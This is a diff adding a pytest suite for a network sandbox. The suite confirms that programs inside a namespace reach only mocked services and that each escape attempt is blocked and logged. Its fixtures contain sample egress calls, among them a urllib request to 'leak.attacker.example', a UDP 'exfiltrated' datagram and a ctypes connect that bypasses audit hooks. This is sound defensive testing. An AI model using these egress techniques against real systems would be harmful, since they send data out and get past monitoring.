@@ -1,0 +1,224 @@
+"""The network boundary: flow programs in a network namespace with no route out. What the
+in-process guard cannot see (a child's `curl`, a C call to connect, another language)
+fails there and is recorded as a blocked decision from the packets it sent; calls to the
+mocked services succeed and are judged. Needs root (the `network_boundary` fixture skips,
+saying why, where a namespace cannot be made)."""
+
+from __future__ import annotations
+
+import socket
+import subprocess
+import sys
+import textwrap
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from workspaces import build, policy, service
+
+from harness.boundary import BoundarySandbox
+from harness.decisions import BLOCKED
+
+pytestmark = pytest.mark.usefixtures("network_boundary")
+
+FAR = "203.0.113.9"  # TEST-NET-3: an address no test may reach
+MOCK_CALL = 'curl -sS -m 5 -H "Authorization: Bearer $HARNESS_TOKEN" "$SVC_BASE_URL/items"'
+
+
+@pytest.fixture
+def bounded() -> Iterator[BoundarySandbox]:
+    workspace = build([service()], [policy(["svc.read"], [("GET", "/items")])])
+    with BoundarySandbox(workspace, name="flow") as sandbox:
+        yield sandbox
+
+
+def python(code: str) -> list[str]:
+    return [sys.executable, "-c", textwrap.dedent(code)]
+
+
+# (the program, the rule that blocks it, the host its decision names, the path)
+PROGRAMS: dict[str, tuple[list[str], str, str, str]] = {
+    "curl to a real host": (
+        ["curl", "-sS", "-m", "5", "https://api.real-vendor.example/v1/me"],
+        "egress.dns",
+        "api.real-vendor.example",
+        "",
+    ),
+    "curl to an address": (
+        ["curl", "-sS", "-m", "5", f"http://{FAR}:8080/"],
+        "egress.tcp",
+        FAR,
+        ":8080",
+    ),
+    "python urllib": (
+        python("""
+            import urllib.request
+            urllib.request.urlopen("https://leak.attacker.example/", timeout=5)
+        """),
+        "egress.dns",
+        "leak.attacker.example",
+        "",
+    ),
+    "a C call to connect (ctypes), past any audit hook": (
+        python(f"""
+            import ctypes, socket, struct
+            libc = ctypes.CDLL(None, use_errno=True)
+            fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
+            address = struct.pack("HH4s8x", socket.AF_INET, socket.htons(443),
+                                  socket.inet_aton("{FAR}"))
+            assert libc.connect(fd, address, len(address)) != 0
+            raise SystemExit(ctypes.get_errno())
+        """),
+        "egress.tcp",
+        FAR,
+        ":443",
+    ),
+    "an IPv6 connection": (
+        python("""
+            import socket
+            socket.create_connection(("2001:db8::9", 443), timeout=5)
+        """),
+        "egress.tcp",
+        "[2001:db8::9]",
+        ":443",
+    ),
+    "a UDP datagram": (
+        python(f"""
+            import socket
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+                udp.sendto(b"exfiltrated", ("{FAR}", 514))
+            raise SystemExit(1)
+        """),
+        "egress.udp",
+        FAR,
+        ":514",
+    ),
+    "a ping on a raw socket": (
+        python(f"""
+            import socket
+            with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
+                raw.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("{FAR}", 0))
+            raise SystemExit(1)
+        """),
+        "egress.raw",
+        FAR,
+        "",
+    ),
+    "a lookup by a grandchild process": (
+        ["sh", "-c", "getent hosts api.real-vendor.example; exit 2"],
+        "egress.dns",
+        "api.real-vendor.example",
+        "",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", PROGRAMS)
+def test_a_way_out_fails_is_recorded_and_the_mocked_call_succeeds(
+    bounded: BoundarySandbox, name: str
+) -> None:
+    argv, rule, host, path = PROGRAMS[name]
+    bot = bounded.binding("bot@prod")
+    mocked = bounded.run(["sh", "-c", MOCK_CALL], binding=bot)
+    assert (mocked.returncode, mocked.stdout.startswith("{")) == (0, True), mocked.stderr
+    left = bounded.run(argv, binding=bot, timeout=30)
+    assert left.returncode != 0, left.stdout
+    assert [(d.outcome, d.rule, d.method, d.operation) for d in bounded.decisions][0] == (
+        "allowed",
+        "scope",
+        "GET",
+        "items.list",
+    )
+    blocked = [(d.rule, d.host, d.path) for d in bounded.decisions if d.outcome == BLOCKED]
+    assert blocked == [(rule, host, path)]
+    with pytest.raises(AssertionError) as failed:
+        bounded.assert_least_privilege()
+    assert "  egress            flow step 2 (call 2)" in str(failed.value).splitlines()
+
+
+def test_a_clean_program_holds_least_privilege(bounded: BoundarySandbox) -> None:
+    bot = bounded.binding("bot@prod")
+    finished = bounded.run(["sh", "-c", MOCK_CALL], binding=bot)
+    assert finished.returncode == 0, finished.stderr
+    assert [d.outcome for d in bounded.decisions] == ["allowed"]
+    bounded.assert_least_privilege()
+
+
+def test_a_denied_mocked_call_is_judged_as_any_call(bounded: BoundarySandbox) -> None:
+    bot = bounded.binding("bot@prod")
+    create = 'curl -s -o /dev/null -w "%{http_code}" -X POST -H "Authorization: Bearer $HARNESS_TOKEN" "$SVC_BASE_URL/items"'
+    finished = bounded.run(["sh", "-c", create], binding=bot)
+    assert finished.stdout == "403"
+    decision = bounded.assert_denied("POST", operation="items.create")
+    assert (decision.outcome, decision.rule) == ("denied", "scope")
+
+
+def test_the_hosts_own_loopback_is_out_of_reach(bounded: BoundarySandbox) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as outside:
+        port = outside.getsockname()[1]
+        finished = bounded.run(
+            python(f"""
+                import socket
+                socket.create_connection(("127.0.0.1", {port}), timeout=5)
+            """)
+        )
+    assert "ConnectionRefusedError" in finished.stderr
+    assert bounded.decisions == []  # loopback is inside the boundary: nothing to record
+
+
+def test_every_packet_before_run_returns_is_judged(bounded: BoundarySandbox) -> None:
+    hosts = [f"198.51.100.{n}" for n in range(1, 101)]
+    finished = bounded.run(
+        python(f"""
+            import socket
+            for host in {hosts!r}:
+                try:
+                    socket.create_connection((host, 443), timeout=5).close()
+                except ConnectionRefusedError:
+                    pass
+        """)
+    )
+    assert finished.returncode == 0, finished.stderr
+    assert [d.host for d in bounded.decisions] == hosts
+
+
+def test_a_lookup_is_one_decision_however_many_queries_it_sends(bounded: BoundarySandbox) -> None:
+    for _ in range(2):
+        bounded.run(["getent", "ahosts", "api.real-vendor.example"])
+    assert [(d.method, d.host) for d in bounded.decisions] == [
+        ("RESOLVE", "api.real-vendor.example"),  # one per run
+        ("RESOLVE", "api.real-vendor.example"),
+    ]
+
+
+def test_a_program_that_outlives_its_timeout_is_stopped_with_its_children(
+    bounded: BoundarySandbox, tmp_path: Path
+) -> None:
+    marker = tmp_path / "survived"
+    started = time.monotonic()
+    with pytest.raises(subprocess.TimeoutExpired):
+        bounded.run(["sh", "-c", f"(sleep 2; touch {marker}) & sleep 30"], timeout=0.5)
+    assert time.monotonic() - started < 10
+    time.sleep(2.5)
+    assert not marker.exists()
+
+
+def test_proxy_settings_do_not_reach_the_program(
+    bounded: BoundarySandbox, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HTTPS_PROXY", "http://proxy.example:3128")
+    monkeypatch.setenv("http_proxy", "http://proxy.example:3128")
+    monkeypatch.setenv("CUSTOM_SETTING", "kept")
+    variables = bounded.environment(bounded.binding("bot@prod"))
+    assert "HTTPS_PROXY" not in variables and "http_proxy" not in variables
+    assert variables["CUSTOM_SETTING"] == "kept"
+    assert variables["SVC_BASE_URL"] == bounded.base_urls["svc"]
+    assert variables["SVC_BASE_URL"].startswith("http://127.0.0.1:")
+
+
+def test_run_outside_the_block_is_refused() -> None:
+    workspace = build([service()], [policy(["svc.read"], [("GET", "/items")])])
+    sandbox = BoundarySandbox(workspace)
+    with pytest.raises(Exception, match=r"only inside `with BoundarySandbox"):
+        sandbox.run(["true"])
